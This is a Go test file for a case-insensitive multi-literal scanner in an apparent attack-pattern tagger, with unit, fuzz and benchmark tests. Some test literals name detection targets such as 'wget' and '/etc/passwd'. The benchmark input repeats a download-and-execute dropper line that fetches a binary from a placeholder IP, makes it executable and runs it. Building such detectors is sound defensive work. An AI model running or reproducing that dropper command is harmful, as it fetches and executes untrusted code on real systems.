package literal

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/ttpcron/ttpcron/tagger/pattern"
)

const here Fields = 1

func build(literals ...string) *Index {
	var b Builder
	for i, l := range literals {
		b.Add(l, i, here)
	}
	return b.Build()
}

// TestScan compares the index with a search for each literal.
func TestScan(t *testing.T) {
	literals := []string{"wget", "get", "ge", "GET ", "he", "she", "hers", "his", "/etc/passwd", "\xff\x00", "käse", "k", "ſh", "aaaa", "aab", strings.Repeat("x", 40)}
	a := build(literals...)
	r := rand.New(rand.NewPCG(1, 2))
	pieces := append([]string{"\u212a", "\u017f", "é", "\xe2", " ", "S", "H", "E"}, literals...)
	for range 2000 {
		var text string
		for range r.IntN(6) {
			p := pieces[r.IntN(len(pieces))]
			text += p[:r.IntN(len(p)+1)]
		}
		found := make(IDs, 1)
		a.Scanner().Scan(text, here, found)
		for i, l := range literals {
			l = pattern.Fold(l)
			if want := strings.Contains(pattern.Fold(text), l); found.Has(i) != want {
				t.Fatalf("%q in %q: %v, want %v", l, text, found.Has(i), want)
			}
		}
	}
}

// TestBuildTooMany holds that of more literals than can be numbered none is
// missed.
func TestBuildTooMany(t *testing.T) {
	var b Builder
	r := rand.New(rand.NewPCG(3, 4))
	texts := make([]string, 70_000)
	for i := range texts {
		texts[i] = fmt.Sprintf("%012x", r.Uint64()>>16)
		b.Add(texts[i], i%64, here)
	}
	s := b.Build().Scanner()
	for i := 0; i < len(texts); i += 997 {
		found := make(IDs, 1)
		s.Reset()
		s.Scan("-"+texts[i]+"-", here, found)
		if !found.Has(i % 64) {
			t.Fatalf("%q is not found", texts[i])
		}
	}
}

// TestFields holds that an id is reported for the fields that it requires a
// literal in, and for each of them once.
func TestFields(t *testing.T) {
	var b Builder
	for i, l := range []string{"/", "sh", "/tmp/"} {
		b.Add(l, 3*i, 1)
		b.Add(l, 3*i+1, 2)
		b.Add(l, 3*i+2, 4)
		b.Add(l, 3*i+2, 8)
	}
	s := b.Build().Scanner()
	for _, tt := range []struct {
		in   Fields
		want uint64
	}{{1, 0b001001001}, {2, 0b010010010}, {8, 0b100100100}, {3, 0b011011011}, {16, 0}, {2 | 16, 0b010010010}} {
		found := make(IDs, 1)
		s.Reset()
		s.Scan("sh /tmp/x", 16, found)
		s.Scan("sh /tmp/x", tt.in, found)
		s.Scan("sh /tmp/x", tt.in, found)
		if found[0] != tt.want {
			t.Errorf("in %b: found %09b, want %09b", tt.in, found[0], tt.want)
		}
	}
}

// FuzzScan holds that a literal that a text holds is found.
func FuzzScan(f *testing.F) {
	f.Add("abc", "b", "bc", "xabcx")
	f.Fuzz(func(t *testing.T, x, y, z, text string) {
		a := build(x, y, z)
		found := make(IDs, 1)
		a.Scanner().Scan(text, here, found)
		for i, l := range []string{x, y, z} {
			if l == "" {
				continue
			}
			if want := strings.Contains(pattern.Fold(text), pattern.Fold(l)); found.Has(i) != want {
				t.Fatalf("%q in %q: %v", l, text, found.Has(i))
			}
		}
	})
}

func BenchmarkScan(b *testing.B) {
	var builder Builder
	r := rand.New(rand.NewPCG(5, 6))
	for i := range 5000 {
		builder.Add(fmt.Sprintf("/%06x", r.Uint32()>>8), i, here)
	}
	s := builder.Build().Scanner()
	found := make(IDs, 100)
	text := strings.Repeat("cd /tmp; wget http://203.0.113.7/bins/x86_64 -O .x; chmod 777 .x; ./.x ssh\n", 100)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		s.Reset()
		s.Scan(text, here, found)
	}
}
